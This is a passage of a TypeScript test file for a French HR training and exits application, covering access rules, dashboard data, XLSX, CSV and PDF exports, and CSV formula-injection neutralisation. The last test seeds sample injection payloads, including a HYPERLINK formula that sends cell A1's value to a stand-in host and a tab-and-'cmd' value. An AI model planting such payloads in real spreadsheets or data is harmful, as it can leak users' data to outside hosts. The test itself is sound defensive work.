    const unknown = await t.request<ApiError>('PATCH', path, {
      cookie: hr,
      body: { requiredModuleCodes: ['T01', 'T99'] },
    });
    expect(unknown.status).toBe(422);
    expect(unknown.body.message).toBe('Module inconnu du catalogue : T99.');
    expect(
      (await t.request('PATCH', path, { cookie: managerSud, body: { requiredModuleCodes: [] } }))
        .status,
    ).toBe(403);
  });

  it('fills the HR dashboard and the exports', async () => {
    const response = await t.request<PathwayDashboard>('GET', '/api/reports/pathways', {
      cookie: hr,
    });
    expect(response.status).toBe(200);
    expect(response.body.endingSoon.length).toBeGreaterThan(0);
    expect(response.body.lateMilestones.length).toBeGreaterThan(0);
    const xlsx = await fetch(`${t.baseUrl}/api/exports/training.xlsx`, { headers: { cookie: hr } });
    expect(xlsx.status).toBe(200);
    expect(
      Buffer.from(await xlsx.arrayBuffer())
        .subarray(0, 2)
        .toString(),
    ).toBe('PK');
    const csv = await t.request<string>('GET', '/api/exports/exits.csv', { cookie: hr });
    // Words, not codes: the category, the job obtained and its duration as HR reads them.
    expect(csv.body).toContain(';"Emploi durable";"CDI";"Sans limite de durée";');
    expect(csv.body).not.toMatch(/EMPLOI_DURABLE|PERMANENT|ADULTE_RELAIS/);
    // Dates as French dates, which French Excel reads as dates.
    expect(csv.body).toMatch(/;\d{2}\/\d{2}\/\d{4};/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      await (
        await fetch(`${t.baseUrl}/api/exports/training.xlsx`, { headers: { cookie: hr } })
      ).arrayBuffer(),
    );
    const exitsSheet = workbook.getWorksheet('Sorties');
    const exitRow = exitsSheet?.getRow(2);
    expect(exitRow?.getCell(3).value).not.toMatch(/_/);
    expect(exitRow?.getCell(4).value).toBeInstanceOf(Date);
    expect(exitRow?.getCell(4).numFmt).toBe('dd/mm/yyyy');
    const trainingRow = workbook.getWorksheet('Formations')?.getRow(2);
    expect(trainingRow?.getCell(6).value).toBeInstanceOf(Date);
    expect(typeof trainingRow?.getCell(7).value).toBe('number');
    const pdf = await fetch(`${t.baseUrl}/api/pathways/${await personId('Fontaine')}/summary.pdf`, {
      headers: { cookie: hr },
    });
    expect(
      Buffer.from(await pdf.arrayBuffer())
        .subarray(0, 5)
        .toString(),
    ).toBe('%PDF-');
  });

  it('neutralises formulas in every CSV export: a quote before =, +, -, @, tab or CR, the cell quoted', async () => {
    const formula = '=HYPERLINK("https://exemple.invalid/?x="&A1;"Voir")';
    const person = await t.request<{ id: string }>('POST', '/api/people', {
      cookie: hr,
      body: {
        firstName: '+33 1 23 45 67 89',
        lastName: formula,
        jobTitle: '@SOMME(A1:A9)',
        email: 'formule.csv@relais.demo',
        homeSiteId: (await one<{ id: string }>(`SELECT id FROM site WHERE code = 'S'`)).id,
        role: 'mediator',
      },
    });
    expect(person.status).toBe(201);
    const contract = await one<{ id: string }>(
      `SELECT c.id FROM contract c WHERE NOT EXISTS (SELECT 1 FROM exit_record x WHERE x.contract_id = c.id)
         AND NOT EXISTS (SELECT 1 FROM contract n WHERE n.person_id = c.person_id AND n.id <> c.id)
       ORDER BY c.start_date LIMIT 1`,
    );
    const exit = await t.request('POST', '/api/exits', {
      cookie: hr,
      body: {
        contractId: contract.id,
        exitDate: today,
        category: 'EMPLOI_TRANSITION',
        jobContractType: 'CDD',
        durationBucket: 'UNDER_SIX_MONTHS',
        employerSector: '-2+3\tcmd',
      },
    });
    expect(exit.status).toBe(201);

    const people = await t.request<string>('GET', '/api/exports/people.csv', { cookie: hr });
    expect(people.status).toBe(200);
    const quoted = `"'${formula.replaceAll('"', '""')}"`;
    expect(people.body).toContain(`${quoted};"'+33 1 23 45 67 89";`);
    expect(people.body).toContain(`;"'@SOMME(A1:A9)";`);
    const exits = await t.request<string>('GET', '/api/exports/exits.csv', { cookie: hr });
    expect(exits.status).toBe(200);
    expect(exits.body).toContain(`;"'-2+3\tcmd";`);
    // No cell of any CSV export starts with a formula character, quoted or not (numbers aside).
    for (const csv of [people.body, exits.body])
      expect(csv.split('\n').flatMap((line) => line.split(';'))).not.toContainEqual(
        expect.stringMatching(/^(?!-?\d+([.,]\d+)?$)"?[=+\-@\t\r]/),
      );
  });
});
